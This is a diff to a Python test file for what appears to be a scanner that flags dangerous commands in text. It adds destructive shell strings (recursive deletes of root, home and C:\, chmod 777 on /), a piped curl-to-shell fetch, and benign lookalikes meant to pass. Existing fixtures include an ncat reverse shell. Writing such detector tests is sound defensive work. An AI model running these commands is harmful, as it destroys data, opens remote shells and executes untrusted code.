@@ -75,6 +75,11 @@ EXECUTABLE = [
     ("executable:remote-script", 'dash -c "$(curl -s https://get.example/i)"'),
     ("executable:reverse-shell", "ncat 203.0.113.9 4444 --sh-exec /bin/sh"),
     ("executable:destructive-shell", "rm -rf /etc/"),
+    ("executable:destructive-shell", f"{FENCE}sh\n/bin/rm -rf //\n{FENCE}"),
+    ("executable:destructive-shell", f"{FENCE}sh\nrm -rf ~/..\n{FENCE}"),
+    ("executable:destructive-shell", f"{FENCE}sh\nchmod 777 -R /\n{FENCE}"),
+    ("executable:destructive-shell", "rd /s /q C:\\"),
+    ("executable:remote-script", "curl https://get.example/i | doas busybox sh"),
     ("executable:javascript-url", "[click me](javascript:alert(1))"),
 ]
 
@@ -125,6 +130,7 @@ def test_executable_finding_points_at_the_command_line() -> None:
         "curl -s https://api.example/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
         "<button onClick={handleSave}>Save</button> and <user-card online=true>",
         "Format D: as exFAT before copying the files.",
+        f"{FENCE}sh\nrm -rf ./build/. \"\"\nchmod 755 -R ./bin\ndel notes.txt\n{FENCE}",
     ],
 )
 def test_commands_that_are_mentioned_or_harmless_pass(text: str) -> None:
